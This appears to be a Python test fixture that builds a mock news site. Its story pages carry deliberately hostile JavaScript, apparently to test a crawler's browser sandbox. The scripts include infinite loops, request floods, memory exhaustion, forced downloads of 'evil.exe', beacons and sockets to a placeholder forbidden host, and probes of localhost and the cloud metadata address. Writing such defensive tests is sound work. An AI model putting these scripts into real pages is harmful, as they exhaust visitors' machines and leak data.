"""Pages whose scripts mean harm, each with a story that an honest browser would still show."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

from wire.script_site import answer, story_paragraphs
from wire.server import Answer

FORBIDDEN = "{forbidden}"
"Stands for the address of a listener that nobody may reach."
HOSTILE = {
    "honest": "",
    "loop": "while (true) {}",
    "late-loop": "setTimeout(() => { while (true) {} }, 3000);",
    "promises": "const again = () => Promise.resolve().then(again); again();",
    "timers": "setInterval(() => {}, 1); const draw = () => requestAnimationFrame(draw); draw();",
    "flood": "for (let n = 0; n < 10000; n++) fetch('/api/' + n).catch(() => {});",
    "chain": "let n = 0; const next = () => fetch('/api/' + n++).then(next, next); next();",
    "private": """
        fetch("http://{forbidden}/fetch").catch(() => {});
        fetch("http://localhost:{port}/name").catch(() => {});
        fetch("http://169.254.169.254/latest/meta-data/").catch(() => {});
        const image = new Image(); image.src = "http://{forbidden}/image";
        const script = document.createElement("script");
        script.src = "http://{forbidden}/script"; document.head.append(script);
        navigator.sendBeacon("http://{forbidden}/beacon", "x");
        const hints = ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender"];
        for (const rel of hints) {
          const link = document.createElement("link");
          link.rel = rel; link.href = "http://{forbidden}/" + rel; link.as = "script";
          document.head.append(link);
        }
    """,
    "sockets": """
        try { new WebSocket("ws://{forbidden}/socket"); } catch (error) {}
        try { new EventSource("http://{forbidden}/events"); } catch (error) {}
        try { new EventSource("/events"); } catch (error) {}
        try {
          const peer = new RTCPeerConnection({iceServers: [{urls: "stun:{forbidden}"}]});
          peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        } catch (error) {}
        try { new WebTransport("https://{forbidden}/"); } catch (error) {}
    """,
    "workers": """
        try { navigator.serviceWorker.register("/worker.js").catch(() => {}); } catch (error) {}
        try { new Worker("/worker.js"); } catch (error) {}
        try { new Worker(URL.createObjectURL(new Blob(["fetch('/api/worker')"]))); } catch (error) {}
        try { new SharedWorker("/worker.js"); } catch (error) {}
        const frame = document.createElement("iframe"); frame.src = "/frame"; document.body.append(frame);
        try { new frame.contentWindow.Worker("/worker.js"); } catch (error) {}
    """,
    "downloads": """
        const link = document.createElement("a");
        link.href = URL.createObjectURL(new Blob(["x".repeat(1000)])); link.download = "evil.exe";
        document.body.append(link); link.click();
        const other = document.createElement("a"); other.href = "/evil.exe"; other.download = "";
        document.body.append(other); other.click();
    """,
    "dialogs": """
        addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "stay"; });
        alert("one"); confirm("two"); prompt("three"); print();
    """,
    "windows": """
        window.open("http://{forbidden}/window"); window.open("/story/honest");
        const link = document.createElement("a"); link.href = "/story/honest"; link.target = "_blank";
        document.body.append(link); link.click();
        location.href = "http://{forbidden}/away"; location.assign("/story/honest");
        const form = document.createElement("form"); form.action = "http://{forbidden}/form";
        document.body.append(form); form.submit();
    """,
    "left": 'location.href = URL.createObjectURL(new Blob(["<p>other"], {type: "text/html"}));',
    "memory": "const all = []; while (true) all.push(new Uint8Array(1 << 22).fill(all.length));",
    "large": """
        document.body.append("words ".repeat(1 << 20));
    """,
    "forbidden": 'fetch("/private/story.json").catch(() => {});',
}
"What the script of each page does."
LOOPING = ("loop", "late-loop", "promises")
"Pages that take all the time that they get; the site lists them apart."
OUTLET = """
title = "Hostile"
home = "{base}/"
country = "GB"
languages = ["en"]
timezone = "Europe/London"
kind = "regional"
sections = ["{base}{section}"]
article_urls = ["/story/"]
browser = true
"""


def hostile_site(base: str, forbidden: str) -> dict[str, Answer]:
    """What the site answers, by path; `forbidden` is an address that nobody may reach."""
    answers = {
        "/robots.txt": answer("User-agent: *\nDisallow: /private/\n", "text/plain"),
        "/list": list_of(name for name in HOSTILE if name not in LOOPING),
        "/loops": list_of(LOOPING),
        "/chain": list_of(["chain"]),
        "/worker.js": answer("fetch('/api/worker')", "text/javascript"),
    }
    for name, source in HOSTILE.items():
        script = source.replace(FORBIDDEN, forbidden).replace("{port}", forbidden.rpartition(":")[2])
        text = "".join(f"<p>{paragraph}</p>" for paragraph in story_paragraphs(f"the page of {name}"))
        title = f"The page of {name} is read"
        page = (
            f"<html><head><title>{title}</title></head><body><h1>{title}</h1>{text}<script>{script}</script>"
        )
        answers[f"/story/{name}"] = answer(page, "text/html; charset=utf-8")
    return answers


def list_of(names: Iterable[str]) -> Answer:
    """A section page."""
    links = "".join(
        f'<p><a href="/story/{name}">The story of {name} and its scripts</a></p>' for name in names
    )
    return answer(f"<html><body>{links}</body></html>", "text/html")


def write_hostile_outlet(base: str, folder: Path, name: str = "hostile", section: str = "/list") -> None:
    """Its outlet file."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.toml").write_text(OUTLET.replace("{base}", base).replace("{section}", section))
